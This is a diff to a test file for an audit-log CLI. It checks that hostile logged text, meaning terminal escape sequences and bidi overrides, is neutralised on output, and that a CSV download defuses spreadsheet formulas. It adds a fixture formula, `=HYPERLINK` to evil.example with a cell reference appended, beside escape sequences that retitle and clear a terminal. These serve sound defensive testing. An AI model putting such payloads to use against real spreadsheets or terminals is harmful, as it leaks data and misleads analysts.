@@ -2,14 +2,16 @@
  * Logged text is chosen by whoever wrote the log — the user name a sign-in or a role change
  * names, a role's display name, a user agent — and auditlake prints it to an analyst's terminal.
  * Escape sequences in it must not act there (retitle the window, clear the screen, hide or
- * recolour a line), nor bidi overrides reorder it: the real CLI over a real database, from a
- * replayed record carrying them to every way it is printed.
+ * recolour a line), nor bidi overrides reorder it, nor a formula run in the spreadsheet a CSV
+ * download is opened in: the real CLI over a real database, from a replayed record carrying
+ * them to every way it is printed.
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { repoRoot, runCliAsync, type CliResult } from './support/cli.js';
 import { tempDir, writeFile } from './support/db.js';
+import { withServe } from './support/serve.js';
 
 const tmp = tempDir('auditlake-terminal-');
 afterAll(() => tmp.cleanup());
@@ -19,7 +21,8 @@ const db = join(tmp.dir, 'hostile.duckdb');
 const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\u009b8m\u007f\u202e';
 const ADMIN = `eve${HOSTILE}@contoso-ml.example`;
 const ROLE = `Global Administrator${HOSTILE}`;
-const AGENT = `curl/8.0${HOSTILE}`;
+// A formula a spreadsheet would run, as anyone can put one in the user name of a failed sign-in.
+const AGENT = `=HYPERLINK("https://evil.example/?"&A1)${HOSTILE}`;
 
 /** What a terminal acts on, but for the line breaks that lay a text out. */
 const UNSAFE = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
@@ -84,7 +87,20 @@ describe('hostile logged text at the terminal', () => {
   });
 
   it('CSV to a pipe or a file keeps values exact (it has no escape of its own)', async () => {
-    const r = await runCliAsync(['query', '--db', db, '--format', 'csv', 'SELECT principal_name FROM events']);
-    expect(r.stdout.split('\r\n')[1]).toBe(ADMIN.replace(/[\x00-\x1f]/g, ' '));
+    const r = await runCliAsync(['query', '--db', db, '--format', 'csv', 'SELECT principal_name, user_agent FROM events']);
+    expect(r.stdout.split('\r\n')[1]).toBe(`${ADMIN.replace(/[\x00-\x1f]/g, ' ')},"${AGENT.replace(/[\x00-\x1f]/g, ' ').replace(/"/g, '""')}"`);
+  });
+
+  it('the console\'s CSV download, made for a spreadsheet, shows a formula rather than running it', async () => {
+    await withServe(['--db', db, '--port', '0'], async (served) => {
+      const token = readFileSync(`${db}.token`, 'utf8').trim();
+      const r = await fetch(`${served.url}/api/sql`, {
+        method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
+        body: JSON.stringify({ sql: "SELECT user_agent, principal_name, -1 AS n, '-1' AS t FROM events", format: 'csv' }),
+      });
+      expect(r.status).toBe(200);
+      const [, row] = (await r.text()).split('\r\n');
+      expect(row).toBe(`"'${AGENT.replace(/[\x00-\x1f]/g, ' ').replace(/"/g, '""')}",${ADMIN.replace(/[\x00-\x1f]/g, ' ')},-1,'-1`);
+    });
   });
 });
